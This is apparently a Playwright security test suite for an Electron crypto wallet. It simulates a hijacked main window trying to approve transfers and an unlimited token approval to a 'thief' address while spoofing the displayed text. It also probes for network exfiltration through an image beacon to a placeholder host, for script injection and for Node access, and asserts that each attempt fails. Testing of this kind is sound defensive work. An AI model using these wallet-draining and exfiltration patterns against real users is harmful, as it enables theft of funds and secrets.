import type { ElectronApplication, Page } from '@playwright/test'
import { createPublicClient, http } from 'viem'
import { ACCOUNT_ADDRESSES } from '../../devnet/index.ts'
import { expect, test } from '../fixtures.ts'
import { ApprovalPage } from '../pages/ApprovalPage.ts'
import { readMain } from '../readMain.ts'

/** The bridge as a hostile script in the main window sees it: whatever it can call, it will. */
interface Bridge {
  [capability: string]: Record<
    string,
    (input?: unknown) => Promise<{ ok: boolean; value?: unknown; error?: { code: string } }>
  >
}

const thief = '0x00000000000000000000000000000000DeaDBeef'

/** Prepares a transfer of ether without the user, and returns its preview's id. */
function prepareTheft(window: Page, to: string): Promise<string> {
  return window.evaluate(async (recipient) => {
    const { minato } = globalThis as unknown as { minato: Bridge }
    const wallets = (await minato.vault?.listWallets?.())?.value as { accounts: { id: string }[] }[]
    const preview = await minato.transfers?.preview?.({
      accountId: wallets[0]?.accounts[0]?.id,
      token: { chainId: 31337, address: 'native' },
      amount: '10',
      recipient,
      speed: 'fast',
    })
    if (!preview?.ok) throw new Error(`No preview: ${preview?.error?.code}`)
    return (preview.value as { previewId: string }).previewId
  }, to)
}

/** Where the main window wants to go from now on, as the app hears it. */
async function followNavigations(app: ElectronApplication): Promise<() => Promise<string[]>> {
  await app.evaluate(({ BrowserWindow }) => {
    const heard: string[] = []
    Object.assign(globalThis, { heard })
    BrowserWindow.getAllWindows()[0]?.webContents.on('will-navigate', ({ url }) => heard.push(url))
  })
  return () => readMain(app, () => (globalThis as unknown as { heard: string[] }).heard)
}

test.describe('a main window in the hands of an attacker', () => {
  test('cannot approve, and the user is shown the truth about what it asked for', async ({
    practice,
    devnet,
  }) => {
    const { window } = practice
    const chain = createPublicClient({ transport: http(devnet.rpcUrl) })
    const nonceBefore = await chain.getTransactionCount({ address: ACCOUNT_ADDRESSES.practice })

    await test.step('its bridge has no way to approve or to sign', async () => {
      const names = await window.evaluate(() => {
        const { minato } = globalThis as unknown as { minato: Bridge }
        return Object.entries(minato).flatMap(([capability, routes]) =>
          Object.keys(routes).map((route) => `${capability}.${route}`),
        )
      })
      expect(names).toContain('transfers.send')
      expect(names.filter((name) => /approv|sign|reject/i.test(name))).toEqual([])
    })

    await test.step('the approval window names the real recipient, whatever the main window draws', async () => {
      const previewId = await prepareTheft(window, thief)
      const opening = practice.nextWindow()
      await window.evaluate((id) => {
        document.body.innerText = 'You send 0.01 ETH to hana.eth.'
        const { minato } = globalThis as unknown as { minato: Bridge }
        Object.assign(globalThis, { outcome: minato.transfers?.send?.({ previewId: id }) })
      }, previewId)
      const approval = new ApprovalPage(await opening)
      await approval.expectShown()
      const read = (await approval.read.innerText()).replaceAll(/\s/g, '').toLowerCase()
      expect(read).toContain(thief.toLowerCase())
      expect(read).toContain('10eth')

      await test.step('a second request cannot slip in under the open window', async () => {
        const second = await prepareTheft(window, ACCOUNT_ADDRESSES.friend)
        const code = await window.evaluate(async (id) => {
          const { minato } = globalThis as unknown as { minato: Bridge }
          return (await minato.transfers?.send?.({ previewId: id }))?.error?.code
        }, second)
        expect(code).toBe('signing.busy')
        await expect(approval.read).toContainText('10 ETH')
      })
      await approval.reject()
      expect(
        await window.evaluate(() => (globalThis as unknown as { outcome: unknown }).outcome),
      ).toMatchObject({
        ok: true,
        value: { status: 'rejected' },
      })
    })

    await test.step('a right that it asks for is named, with who gets it, and has to be accepted by name', async () => {
      const usdc = devnet.manifest.tokenList.tokens.find(({ symbol }) => symbol === 'USDC')?.address
      const opening = practice.nextWindow()
      await window.evaluate(
        async ({ to, spender }) => {
          document.body.innerText = 'You sign in to a shop.'
          const { minato } = globalThis as unknown as { minato: Bridge }
          const wallets = (await minato.vault?.listWallets?.())?.value as { accounts: { id: string }[] }[]
          const data = `0x095ea7b3${spender.slice(2).toLowerCase().padStart(64, '0')}${'f'.repeat(64)}`
          const request = { chainId: 31337, to, value: '', data, speed: 'fast' }
          Object.assign(globalThis, {
            outcome: minato.calls?.send?.({ ...request, accountId: wallets[0]?.accounts[0]?.id }),
          })
        },
        { to: usdc, spender: thief },
      )
      const approval = new ApprovalPage(await opening)
      await approval.expectShown()
      const shown = (await approval.window.innerText('main')).replaceAll(/\s/g, '').toLowerCase()
      expect(shown).toContain(thief.toLowerCase())
      await expect(approval.window.getByText('There is no limit')).toBeVisible()
      await approval.window.bringToFront()
      await expect(approval.window.getByRole('button', { name: 'Approve', exact: true })).toBeDisabled()
      await approval.reject()
      const outcome = await window.evaluate(() => (globalThis as unknown as { outcome: unknown }).outcome)
      expect(outcome).toMatchObject({ ok: true, value: { status: 'rejected' } })
    })
    expect(await chain.getTransactionCount({ address: ACCOUNT_ADDRESSES.practice })).toBe(nonceBefore)
  })

  test('reaches no network, no Node, no other page and no window of its own', async ({ practice }) => {
    const { window } = practice
    const reach = await window.evaluate(async () => {
      const g = globalThis as unknown as Record<string, unknown>
      const tryFetch = (url: string) =>
        fetch(url).then(
          () => 'reached',
          () => 'refused',
        )
      return {
        node: ['require', 'process', 'Buffer', 'module', 'electron', 'ipcRenderer'].filter(
          (name) => name in g,
        ),
        fetches: await Promise.all([
          tryFetch('https://example.org/'),
          tryFetch('http://127.0.0.1:8545/'),
          tryFetch('/index.html'),
        ]),
        socket: await new Promise((resolve) => {
          try {
            const socket = new WebSocket('ws://127.0.0.1:8545/')
            socket.onopen = () => resolve('reached')
            socket.onerror = () => resolve('refused')
          } catch {
            resolve('refused')
          }
        }),
        picture: await new Promise((resolve) => {
          const image = new Image()
          image.onload = () => resolve('reached')
          image.onerror = () => resolve('refused')
          image.src = 'https://example.org/leak.png?secret'
        }),
        inline: await new Promise((resolve) => {
          const script = document.createElement('script')
          try {
            script.textContent = 'globalThis.ran = true'
            document.head.append(script)
          } catch {
            // Trusted Types refuse the text itself.
          }
          setTimeout(() => resolve('ran' in globalThis ? 'ran' : 'refused'), 0)
        }),
        frozen: Object.isFrozen(g.minato),
      }
    })
    expect(reach).toEqual({
      node: [],
      fetches: ['refused', 'refused', 'refused'],
      socket: 'refused',
      picture: 'refused',
      inline: 'refused',
      frozen: true,
    })
    const before = window.url()
    const navigations = await followNavigations(practice.app)
    await window.evaluate(() => {
      globalThis.open('https://example.org/')
      location.href = 'https://example.org/'
    })
    await expect.poll(navigations).toEqual(['https://example.org/'])
    await expect(window.getByRole('heading', { name: 'Portfolio' })).toBeVisible()
    expect(window.url()).toBe(before)
    expect(practice.app.windows()).toHaveLength(1)
  })

  test('gets nothing that is not in the contract, and no secret back', async ({ practice }) => {
    const { window } = practice
    const answers = await window.evaluate(async () => {
      const { minato } = globalThis as unknown as { minato: Bridge }
      const wallets = await minato.vault?.listWallets?.()
      const wrong = await minato.vault?.unlock?.({ password: 'a string, not bytes' })
      const extra = await minato.settings?.update?.({ theme: 'dark', admin: true })
      return { wallets: JSON.stringify(wallets), wrong: wrong?.error?.code, extra: extra?.error?.code }
    })
    expect(answers.wrong).toBe('request.invalid')
    expect(answers.extra).toBe('request.invalid')
    expect(answers.wallets).not.toMatch(/mnemonic|entropy|privateKey|test test|junk/i)
  })
})
